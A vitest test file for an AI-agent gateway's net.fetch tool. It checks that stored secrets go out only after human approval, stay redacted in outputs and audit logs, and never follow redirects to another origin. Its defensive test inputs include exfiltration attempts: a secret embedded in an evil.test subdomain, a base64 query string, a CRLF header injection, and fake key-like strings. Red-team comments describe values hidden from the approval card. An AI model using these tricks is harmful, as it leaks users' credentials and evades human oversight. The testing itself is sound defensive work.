import { readdirSync, readFileSync } from 'node:fs';
import { createServer, type IncomingHttpHeaders, type Server } from 'node:http';
import { randomBytes } from 'node:crypto';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { evaluate } from '../../server/core/decide/decide.js';
import type { Runtime } from '../../server/app/runtime.js';
import { auditRecords } from '../fixtures/audit-records.js';
import { tempTree, type TempTree } from '../fixtures/temp-tree.js';
import { runtimeFor } from './runtime-fixture.js';

/**
 * net.fetch with a named secret (issue 14, egress honesty): a person approves a card that names
 * the secret, the header and the host; the listener receives exactly that header with the stored
 * value; the value never comes back to the agent, never lands in the audit log, and never goes to
 * another origin. A value the model writes itself is refused before a byte leaves.
 */
describe('net.fetch with named secrets', () => {
  let tree: TempTree;
  let runtime: Runtime;
  let server: Server;
  let other: Server;
  let port = 0;
  let otherPort = 0;
  const seen: { url: string; headers: IncomingHttpHeaders }[] = [];
  const seenElsewhere: IncomingHttpHeaders[] = [];
  // No pattern the redaction sink knows: only the store says it is a secret. The name is this
  // run's own: on a machine with a keyring, the store is shared across homes.
  const value = 'plain-words-only-the-store-knows-4711';
  const SECRET = `oracle-test-${randomBytes(4).toString('hex')}`;

  const listen = async (s: Server): Promise<number> => {
    await new Promise<void>((resolve) => s.listen(0, '127.0.0.1', resolve));
    const address = s.address();
    return typeof address === 'object' && address !== null ? address.port : 0;
  };

  beforeAll(async () => {
    server = createServer((req, res) => {
      seen.push({ url: req.url ?? '', headers: req.headers });
      if (req.url === '/bad-location') {
        // The broker quotes a Location it cannot follow: what it quotes came from the server.
        res.writeHead(302, { location: `http://[${req.headers.authorization ?? ''}]/` });
        res.end();
        return;
      }
      if (req.url === '/padded') {
        // Cut at the gate's 8 MiB cap a few bytes before the echoed value ends.
        const echoed = req.headers.authorization ?? '';
        res.end(`${'x'.repeat(8 * 1024 * 1024 - echoed.length + 4)}${echoed}`);
        return;
      }
      if (req.url === '/elsewhere') {
        res.writeHead(302, { location: `http://127.0.0.1:${String(otherPort)}/landed` });
        res.end();
        return;
      }
      // A debug endpoint: it echoes what it got, in a header and in the body.
      res.writeHead(200, { 'x-echo': req.headers.authorization ?? '' });
      res.end(`you sent: ${req.headers.authorization ?? 'nothing'}`);
    });
    other = createServer((req, res) => {
      seenElsewhere.push(req.headers);
      res.end('landed');
    });
    port = await listen(server);
    otherPort = await listen(other);
    tree = tempTree('oracle-net-secrets-');
    tree.dir('projects');
    const policy = [
      'scopes:',
      `  projects: { roots: [{ path: "${tree.root}/projects", mode: rw }] }`,
      'egress:',
      `  allow: [{ host: "127.0.0.1:${String(port)}", why: local test server }, { host: "127.0.0.1:${String(otherPort)}", why: another origin }, { host: "plain.example.com:*", why: any port }]`,
      'principals:',
      '  agents:',
      '    fetcher: { capabilities: [net.egress] }',
      '    keyed: { capabilities: [net.egress, secret.read, fs.read] }',
      '',
    ].join('\n');
    runtime = await runtimeFor(tree, policy, { resolve: () => Promise.reject(new Error('no DNS for IP literals')) });
    await runtime.toolhost.env.secrets?.set(SECRET, value);
  });
  afterAll(async () => {
    await runtime.toolhost.env.secrets?.delete(SECRET);
    await runtime.close();
    server.close();
    other.close();
    tree.dispose();
  });

  const url = (path: string): string => `http://127.0.0.1:${String(port)}${path}`;
  const fetchWith = (args: Record<string, unknown>) => ({ tool: 'net.fetch', args: { url: url('/echo'), ...args } });
  const bearer = { Authorization: { name: SECRET, prefix: 'Bearer ' } };
  const phone = { id: 'dev_phone', kind: 'device' as const, approveT2: true, approveT3: false };

  /** Submits as `keyed`, lets a phone approve the card, and returns the result and the card. */
  async function approved(action: unknown) {
    const submitted = runtime.submit(action, 5000, 'keyed');
    let card: ReturnType<Runtime['desk']['list']>[number] | undefined;
    for (let i = 0; i < 100 && card === undefined; i++) {
      card = runtime.desk.list().find((c) => c.state === 'pending');
      if (card === undefined) await new Promise((r) => setTimeout(r, 20));
    }
    if (card === undefined) throw new Error('no card was shown');
    await runtime.desk.answer(card.approval_id, { approver: phone, verdict: 'approve', nonce: card.nonce, argHash: card.arg_hash });
    return { result: await submitted, card };
  }

  it('needs a person, and the card says which secret goes in which header to which host', () => {
    const judged = evaluate(fetchWith({ secrets: bearer }), runtime.gate.context);
    expect(judged.decision).toMatchObject({ decision: 'needs-approval', tier: 'T2' });
    expect(judged.decision.reasons.at(-1)).toBe(`sends the secret \`${SECRET}\` in header \`Authorization\` after \`Bearer \` to \`127.0.0.1:${String(port)}\``);
  });

  it('refuses an agent whose ceiling lacks secret.read, a plain-http host off loopback, and a header given twice', async () => {
    const denied = await runtime.submit(fetchWith({ secrets: bearer }), 0, 'fetcher');
    expect(denied).toMatchObject({ decision: 'deny', code: 'CAPABILITY_DENIED', executed: false });
    const judge = (args: Record<string, unknown>) => evaluate({ tool: 'net.fetch', args }, runtime.gate.context).decision;
    // Allow-listed, but plain http off loopback would carry the value readable.
    expect(judge({ url: 'http://plain.example.com/', headers: {} }).decision).toBe('allow');
    expect(judge({ url: 'http://plain.example.com/', secrets: bearer })).toMatchObject({ decision: 'deny', code: 'EGRESS_DENIED', reasons: [expect.stringMatching(/^a secret is sent over https only/u)] });
    expect(judge({ url: 'https://plain.example.com/', secrets: bearer }).decision).toBe('needs-approval');
    expect(judge({ url: url('/'), headers: { 'x-trace': 'x' }, secrets: { 'X-Trace': { name: SECRET } } })).toMatchObject({ decision: 'deny', code: 'ARG_SHAPE' });
    expect(judge({ url: url('/'), headers: { authorization: 'x' }, secrets: bearer })).toMatchObject({ decision: 'deny', code: 'ARG_SHAPE' });
    expect(judge({ url: url('/'), secrets: { 'Proxy-Authorization': { name: SECRET } } })).toMatchObject({ decision: 'deny', code: 'ARG_SHAPE' });
    // A prefix is an auth scheme word, never text of its own that could carry a value.
    for (const prefix of ['Bearer\r\nX: ', `${value} `, `ghp_${'a1B2c3D4e5F6g7H8i9J0'.repeat(2)} `, 'Bearer  ']) {
      expect(judge({ url: url('/'), secrets: { Authorization: { name: SECRET, prefix } } }).code, prefix).toBe('INPUT_INVALID');
    }
    // A prefix goes out as written and is shown on the card: one the card would hide is refused (red team, session 33).
    expect(judge({ url: url('/'), secrets: { 'X-Signed': { name: SECRET, prefix: 'AKIAIOSFODNN7EXAMPLE ' } } })).toMatchObject({ decision: 'deny', code: 'EGRESS_DENIED' });
    // A header name is sent as written: one that looks like a key is refused.
    expect(judge({ url: url('/'), secrets: { AKIAABCDEFGHIJKLMNOP: { name: SECRET } } })).toMatchObject({ decision: 'deny', code: 'EGRESS_DENIED' });
    expect(seen, 'nothing was sent').toHaveLength(0);
  });

  it('sends the stored value in that header once approved, and never shows it back', async () => {
    const { result, card } = await approved(fetchWith({ secrets: bearer }));
    expect(result).toMatchObject({ executed: true, secrets_read: [SECRET] });
    expect(seen.at(-1)?.headers.authorization).toBe(`Bearer ${value}`);
    expect(JSON.stringify(card)).not.toContain(value);
    const output = result.output as { body: string; headers: Record<string, string> };
    expect(output.body).toMatch(/^you sent: Bearer \[REDACTED:/u);
    expect(output.headers['x-echo']).toMatch(/^Bearer \[REDACTED:/u);
    expect(JSON.stringify(result)).not.toContain(value);
    const egress = auditRecords(runtime.gate.home).find((r) => r['kind'] === 'egress' && r['action_id'] === result.action_id);
    expect(egress?.['detail']).toMatchObject({ secrets: [{ header: 'Authorization', name: SECRET }] });
    const log = join(runtime.gate.home, 'logs', 'audit');
    for (const name of readdirSync(log)) expect(readFileSync(join(log, name), 'utf8').split('\n').filter((line) => line.includes(value)), name).toEqual([]);
  });

  it('shows the secret by name on the card as the phone gets it, redacted preview and all', async () => {
    const { result, card } = await approved(fetchWith({ secrets: bearer }));
    expect(result.executed).toBe(true);
    const args = (card.preview as { args: { secrets: Record<string, { name: string; prefix: string }> } }).args;
    expect(args.secrets).toEqual({ Authorization: { name: SECRET, prefix: 'Bearer ' } });
  });

  it('keeps a person in the loop whatever a tier rule says', async () => {
    const lowered = await runtimeFor(tree, `egress:\n  allow: [{ host: "127.0.0.1:${String(port)}", why: local }]\ntiers:\n  - { tool: net.fetch, tier: T1 }\n`, { home: 'lowered', resolve: () => Promise.reject(new Error('no DNS')) });
    try {
      expect(evaluate(fetchWith({}), lowered.gate.context).decision).toMatchObject({ decision: 'allow', tier: 'T1' });
      expect(evaluate(fetchWith({ secrets: bearer }), lowered.gate.context).decision).toMatchObject({ decision: 'needs-approval', tier: 'T2' });
    } finally {
      await lowered.close();
    }
  });

  it('hides the value where the server puts it back: a Location the broker quotes, a body cut inside it', async () => {
    const quoted = (await approved({ tool: 'net.fetch', args: { url: url('/bad-location'), secrets: bearer } })).result;
    expect(quoted.error?.code).toBeDefined();
    expect(JSON.stringify(quoted)).not.toContain(value.slice(0, 12));
    const cut = (await approved({ tool: 'net.fetch', args: { url: url('/padded'), secrets: bearer } })).result;
    const body = (cut.output as { body: string }).body;
    expect(cut.truncated).toBe(true);
    expect(body.length).toBeGreaterThan(8 * 1024 * 1024 - 100);
    expect(body.slice(-64)).not.toContain(value.slice(0, 12));
    expect(body.endsWith('Bearer ')).toBe(true);
    const log = join(runtime.gate.home, 'logs', 'audit');
    for (const name of readdirSync(log)) expect(readFileSync(join(log, name), 'utf8').split('\n').filter((line) => line.includes(value.slice(0, 12))), name).toEqual([]);
  });

  it('keeps a replaced value hidden while the gate runs', async () => {
    const other = `${SECRET}-rotated`;
    await runtime.toolhost.env.secrets?.set(other, value);
    await runtime.toolhost.env.secrets?.set(other, 'an-entirely-new-value-of-the-rotation');
    await runtime.toolhost.env.secrets?.delete(other);
    expect(runtime.toolhost.env.redact(`old ${value}`, [])).not.toContain(value);
    expect(runtime.toolhost.env.redact('an-entirely-new-value-of-the-rotation', [])).not.toContain('entirely-new');
  });

  it('never sends the secret to another origin a redirect points to', async () => {
    const { result } = await approved({ tool: 'net.fetch', args: { url: url('/elsewhere'), secrets: bearer } });
    expect(result.output).toMatchObject({ status: 200, body: 'landed' });
    expect(seen.at(-1)?.headers.authorization).toBe(`Bearer ${value}`);
    expect(seenElsewhere.at(-1)?.authorization).toBeUndefined();
    expect(JSON.stringify(seenElsewhere)).not.toContain(value);
  });

  it('refuses at send time a value stored after the card was shown', async () => {
    const later = 'stored-after-the-card-0451';
    const submitted = runtime.submit(fetchWith({ method: 'POST', body: `note ${later}` }), 5000, 'keyed');
    let card: ReturnType<Runtime['desk']['list']>[number] | undefined;
    for (let i = 0; i < 100 && card === undefined; i++) {
      card = runtime.desk.list().find((c) => c.state === 'pending');
      if (card === undefined) await new Promise((r) => setTimeout(r, 20));
    }
    if (card === undefined) throw new Error('no card was shown');
    const before = seen.length;
    await runtime.toolhost.env.secrets?.set('later', later);
    try {
      await runtime.desk.answer(card.approval_id, { approver: phone, verdict: 'approve', nonce: card.nonce, argHash: card.arg_hash });
      const result = await submitted;
      expect(result).toMatchObject({ executed: true, error: { code: 'EGRESS_DENIED' } });
      expect(result.error?.message).not.toContain(later);
      expect(seen).toHaveLength(before);
    } finally {
      await runtime.toolhost.env.secrets?.delete('later');
    }
  });

  it('hides a stored value in what any record of the log quotes, such as an error naming a path', async () => {
    const missing = `${tree.root}/projects/${value}.txt`;
    const result = await runtime.submit({ tool: 'fs.read', args: { path: missing } }, 0, 'keyed');
    expect(result.executed, JSON.stringify(result)).toBe(true);
    expect(result.error?.message).toContain(value);
    const log = join(runtime.gate.home, 'logs', 'audit');
    const lines = readdirSync(log).flatMap((name) => readFileSync(join(log, name), 'utf8').split('\n'));
    expect(lines.filter((line) => line.includes(result.action_id)).length).toBeGreaterThan(1);
    expect(lines.filter((line) => line.includes(value))).toEqual([]);
  });

  it('refuses a missing secret without sending anything', async () => {
    const before = seen.length;
    const { result } = await approved(fetchWith({ secrets: { 'x-api-key': { name: 'nope' } } }));
    expect(result.error?.code).toBe('SECRET_MISSING');
    expect(seen).toHaveLength(before);
  });

  it('refuses what a card would hide under a secret-named header, however short, and sends a plain header as shown', async () => {
    const before = seen.length;
    // Red team, session 33: each value is short and plain, so no text pattern sees it; the card hid
    // each whole as [REDACTED:secret-field] while the listener received it.
    for (const headers of [{ 'X-Session-Token': 'acme-buy-may5-40m' }, { 'X-Password': 'hunter2' }, { 'x-api-key': 'c2VjcmV0LXBsYW4' }]) {
      const result = await runtime.submit(fetchWith({ method: 'POST', body: 'hi', headers }), 5000, 'keyed');
      expect(result, JSON.stringify(headers)).toMatchObject({ decision: 'deny', code: 'EGRESS_DENIED', executed: false });
      expect(result.reasons.at(-1)).toMatch(/a secret-named header, whose value a card hides whole/u);
      expect(JSON.stringify(result.reasons)).not.toContain(Object.values(headers)[0]);
    }
    expect(runtime.desk.list().filter((c) => c.state === 'pending'), 'nobody was asked').toEqual([]);
    expect(seen, 'the listener got none of them').toHaveLength(before);
    // A header the card shows as it is goes out as it is.
    const { result, card } = await approved(fetchWith({ method: 'POST', body: 'hi', headers: { 'X-Note': 'acme-buy-may5-40m' } }));
    expect(JSON.stringify(card.preview)).toContain('acme-buy-may5-40m');
    expect(result).toMatchObject({ executed: true });
    expect(seen.at(-1)?.headers['x-note']).toBe('acme-buy-may5-40m');
  });

  it('refuses a stored value the model wrote itself, in a header, the URL, a body, a header name or a prefix, before anyone is asked', async () => {
    const before = seen.length;
    // Short enough to be a `prefix` (an auth scheme word).
    const shortValue = 'PrefixKept-0451abc';
    await runtime.toolhost.env.secrets?.set(`${SECRET}-short`, shortValue);
    const written = [
      { headers: { 'x-note': value } },
      { url: url(`/echo?k=${value}`) },
      { url: url(`/echo?k=${encodeURIComponent(Buffer.from(value).toString('base64'))}`) },
      { method: 'POST', body: `{"key":"${value}"}` },
      { secrets: { [`x-${value}`]: { name: SECRET } } },
      { headers: { [value]: 'x' } },
      // Refused for the host too; the stored value is what is said, so no reason quotes it.
      { url: `https://${value}.evil.test/` },
      { secrets: { Authorization: { name: SECRET, prefix: `${shortValue} ` } } },
    ];
    for (const args of written) {
      const result = await runtime.submit(fetchWith(args), 5000, 'keyed');
      expect(result, JSON.stringify(args)).toMatchObject({ decision: 'deny', code: 'EGRESS_DENIED', executed: false });
      expect(result.reasons.at(-1)).toMatch(/holds the value of a secret in ORACLE's store/u);
      expect(JSON.stringify(result.reasons)).not.toContain(value);
      expect(JSON.stringify(result.reasons)).not.toContain(shortValue);
    }
    await runtime.toolhost.env.secrets?.delete(`${SECRET}-short`);
    expect(runtime.desk.list().filter((c) => c.state === 'pending'), 'nobody was asked').toEqual([]);
    expect(seen, 'the listener got none of them').toHaveLength(before);
    const log = join(runtime.gate.home, 'logs', 'audit');
    for (const name of readdirSync(log)) expect(readFileSync(join(log, name), 'utf8').split('\n').filter((line) => line.includes(value)), name).toEqual([]);
  });
});
